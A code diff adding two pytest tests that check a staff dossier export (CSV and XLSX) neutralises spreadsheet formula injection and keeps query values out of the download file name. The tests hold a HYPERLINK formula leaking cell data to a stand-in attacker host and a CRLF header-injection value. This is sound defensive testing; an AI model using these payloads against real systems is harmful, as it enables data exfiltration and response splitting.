@@ -469,6 +469,40 @@ class TestStaffList:
         assert sheet["A2"].value == one.reference
         assert sheet["N2"].value == 12000
 
+    def test_a_formula_in_a_title_is_exported_as_text(self, staff, edition):
+        hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Voir")'
+        complete_dossier(attendee(edition), title=hostile)
+        rows = list(
+            csv.reader(
+                io.StringIO(
+                    staff.get("/gestion/dossiers/export.csv?edition=2025").content.decode(
+                        "utf-8-sig"
+                    )
+                ),
+                delimiter=";",
+            )
+        )
+        assert rows[1][rows[0].index("Titre")] == "'" + hostile
+        from openpyxl import load_workbook
+
+        sheet = load_workbook(
+            io.BytesIO(staff.get("/gestion/dossiers/export.xlsx?edition=2025").content)
+        ).active
+        title = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("Titre") + 1)
+        assert title.data_type == "s" and title.value == "'" + hostile
+
+    @pytest.mark.parametrize("asked", ["2025\r\nSet-Cookie: a=b", 'x"y', "2099"])
+    def test_the_file_name_is_the_edition_exported_never_the_query(self, staff, edition, asked):
+        for ext in ("csv", "xlsx"):
+            response = staff.get(f"/gestion/dossiers/export.{ext}", {"edition": asked})
+            assert response.status_code in (200, 400)
+            if response.status_code == 200:
+                assert response["Content-Disposition"] == (
+                    f'attachment; filename="dossiers-toutes-editions.{ext}"'
+                )
+        response = staff.get("/gestion/dossiers/export.csv", {"edition": "2025"})
+        assert response["Content-Disposition"] == 'attachment; filename="dossiers-2025.csv"'
+
     @pytest.mark.parametrize(
         "persona", ["anonymous", "resident", "organiser", "committee", "agent"]
     )
